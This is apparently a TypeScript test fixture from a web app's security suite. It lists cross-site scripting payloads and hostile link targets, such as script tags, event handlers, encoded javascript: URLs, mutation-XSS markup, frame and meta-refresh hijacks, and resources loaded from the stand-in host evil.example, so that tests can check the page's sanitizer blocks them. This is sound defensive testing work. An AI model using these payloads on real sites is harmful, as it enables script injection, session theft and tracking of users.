/**
 * The security suite's corpus (issue 10): markup and link targets that would run a script, open a
 * dialog or make the page call a foreign host if anything let them through. A payload that runs
 * sets `top.pwned` and opens an alert; a foreign request goes to evil.example.
 */

/** What a payload runs: a flag the test reads and a dialog the test listens for. */
const run = 'top.pwned=1,alert(1)'
/** A host no request may go to. */
export const foreignHost = 'evil.example'
const evil = `http://${foreignHost}`

/** Markup for every server field that reaches the page, as HTML (bodies) or as text (names). */
export const xssVectors: readonly string[] = [
  // Script elements
  `<script>${run}</script>`,
  `<SCRIPT SRC=${evil}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title></textarea></style><script>${run}</script>`,
  `<script type="module">${run}</script>`,
  // Event handlers
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  '<img src=x onerror=alert`1`>',
  `<img src="x:alert(1)" onerror="eval(src)">`,
  `<svg onload=${run}>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}><summary>d</summary></details>`,
  `<marquee onstart=${run}>m</marquee>`,
  `<audio src=x onerror=${run}></audio>`,
  `<video><source onerror=${run}></video>`,
  `<div onmouseover=${run}>hover me</div>`,
  `<p onclick=${run}>click me</p>`,
  `<a onfocus=${run} autofocus href="#">focus</a>`,
  // javascript:, data: and vbscript: URLs, with case, entity and whitespace tricks
  `<a href="javascript:${run}">js link</a>`,
  `<a href="JaVaScRiPt:${run}">case link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">dec link</a>`,
  `<a href="&#x6A;avascript&#x3A;${run}">hex link</a>`,
  `<a href="jav&#x09;ascript:${run}">tab link</a>`,
  `<a href="jav&#x0A;ascript:${run}">newline link</a>`,
  `<a href=" &#14; javascript:${run}">control link</a>`,
  `<a href="javascript&colon;${run}">colon link</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="data:image/svg+xml,<svg onload=alert(1)>">svg data link</a>`,
  '<a href="vbscript:msgbox(1)">vb link</a>',
  `<a href="//${foreignHost}/x">protocol-relative link</a>`,
  `<a href="/\\${foreignHost}/x">backslash link</a>`,
  `<a href="/definitely-not-a-route">unknown route link</a>`,
  // SVG and MathML
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></animate></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>svg link</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"></use></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math href="javascript:${run}">math link</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">m</maction></math>`,
  // Mutation XSS (markup that changes meaning when parsed twice)
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>"></path></textarea></mtext></svg></mglyph></form></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<template><img src=x onerror=${run}></template>`,
  `<textarea><img src=x onerror=${run}></textarea>`,
  `<title><img src=x onerror=${run}></title>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></a></style></svg>`,
  // Frames, objects and srcdoc
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="${evil}/frame"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="${evil}/x.swf">`,
  // Navigation and document hijacks
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  `<base href="${evil}/">`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<button formaction="javascript:${run}">go</button>`,
  `<a href="${evil}/" target="_top" ping="${evil}/ping">ping link</a>`,
  // Styles and foreign resources
  `<style>@import '${evil}/x.css';</style>`,
  `<div style="background:url(${evil}/bg.png)">styled</div>`,
  `<div style="background-image:url(javascript:${run})">styled js</div>`,
  `<img src="${evil}/tracker.png" alt="tracker">`,
  // https: the page's CSP allows https images, media and frames, so only the sanitizer stops these.
  `<img src="https://${foreignHost}/tracker.png" alt="https tracker">`,
  `<audio src="https://${foreignHost}/a.mp3" autoplay></audio>`,
  `<video src="https://${foreignHost}/v.mp4" autoplay></video>`,
  `<iframe src="https://${foreignHost}/frame"></iframe>`,
  `<a href="https://${foreignHost}/"><img src="https://${foreignHost}/linked.png" alt="linked"></a>`,
  `<img srcset="${evil}/t.png 1x">`,
  `<picture><source srcset="${evil}/p.png"><img alt="p"></picture>`,
  `<video poster="${evil}/v.png"></video>`,
  `<link rel="stylesheet" href="${evil}/x.css">`,
  `<link rel="prefetch" href="${evil}/prefetch">`,
  `<link rel="preload" as="script" href="${evil}/preload.js">`,
  `<table background="${evil}/table.png"><tr><td>t</td></tr></table>`,
  `<input type="image" src="${evil}/input.png">`,
  // DOM clobbering and template injection
  '<img name="getElementById"><form name="cookie"></form>',
  '<a id="__proto__" href="#">proto</a>',
  "{{constructor.constructor('top.pwned=1,alert(1)')()}}",
  '${alert(1)}',
  `javascript:${run}`,
]

/** Link targets a server field may carry: none of them may end up in an href. */
export const hostileLinks: readonly string[] = [
  `javascript:${run}`,
  `JAVASCRIPT:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  `//${foreignHost}/x`,
  `/\\${foreignHost}/x`,
  `\\\\${foreignHost}/x`,
  `${foreignHost}/x`,
  '/definitely-not-a-route',
  `ftp://${foreignHost}/x`,
]
